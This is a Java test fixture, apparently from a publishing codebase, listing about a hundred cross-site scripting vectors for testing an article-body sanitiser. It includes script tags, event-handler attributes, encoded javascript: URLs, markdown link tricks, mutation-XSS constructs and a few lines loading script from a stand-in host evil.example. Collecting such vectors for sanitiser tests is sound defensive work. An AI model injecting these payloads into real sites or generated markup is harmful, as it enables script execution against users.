package press.masthead.article.body;

import com.fasterxml.jackson.core.type.TypeReference;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;

/** What is known to make browsers run a script, or fetch something, out of a text: the usual cheat sheets, shortened. */
final class XssVectors {

    /** The vectors of a public collection, as {@code xss/README.md} tells. */
    static List<String> corpus(String name) {
        try (var file = XssVectors.class.getResourceAsStream("/xss/" + name + ".json")) {
            return BodyFixture.JSON.readValue(file, new TypeReference<List<String>>() {});
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<script/x>alert(1)</script>",
            "<<script>alert(1);//<</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=\"javascript:alert(1);\">",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<img src=photo:01930000-0000-7000-8000-000000000001 onerror=alert(1) onload=alert(1)>",
            "<img src='photo:01930000-0000-7000-8000-000000000001' alt='\"><script>alert(1)</script>'>",
            "<img/src/onerror=alert(1)>",
            "<image src=x onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<body background=javascript:alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=https://www.youtube.com/embed/x onload=alert(1)></iframe>",
            "<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>",
            "<iframe src=https://evil.example/#https://youtube.com/x></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
            "<a href=\"&#1;javascript:alert(1)\">x</a>",
            "<a href=\"java&#0;script:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"view-source:javascript:alert(1)\">x</a>",
            "<a href=\"blob:https://x.example/1\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=x onmouseover=alert(1)>x</a>",
            "<a href='x' style='position:fixed;background:url(javascript:alert(1))'>x</a>",
            "<a href=\"https://x.example/\" onclick=\"alert(1)\" rel=opener target=_blank>x</a>",
            "<p style=\"width:expression(alert(1))\">x</p>",
            "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
            "<style>@import 'javascript:alert(1)';</style>x",
            "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\"><a href=/x>x</a>",
            "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<select autofocus onfocus=alert(1)></select>",
            "<details open ontoggle=alert(1)>x</details>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<isindex action=javascript:alert(1) type=image>",
            "<template><script>alert(1)</script></template>",
            "<xss id=x tabindex=1 onfocus=alert(1)>x</xss>",
            "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            "<plaintext><script>alert(1)</script>",
            "<title><img src=x onerror=alert(1)></title>",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<!--><script>alert(1)</script>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<?xml version='1.0'?><script>alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<pre><code class=\"language-x&quot; onclick=alert(1)\">x</code></pre>",
            "<pre><code class='language-\"><script>alert(1)</script>'>x</code></pre>",
            "<blockquote cite=javascript:alert(1)>x</blockquote>",
            "<q cite=javascript:alert(1)>x</q>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "</p></body></html><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'-alert(1)-'",
            "[x](javascript:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](JAVASCRIPT:alert(1) \"title\")",
            "[x](<java\tscript:alert(1)>)",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x]: javascript:alert(1)\n\n[x]",
            "<javascript:alert(1)>",
            "![x](javascript:alert(1))",
            "![x\"onerror=\"alert(1)](photo:01930000-0000-7000-8000-000000000001)",
            "[x](https://x.example/\"onmouseover=\"alert(1))",
            "[![x](javascript:alert(1))](javascript:alert(1))",
            "```\"><script>\nx\n```",
            "`<script>alert(1)</script>`");

    private XssVectors() {}
}
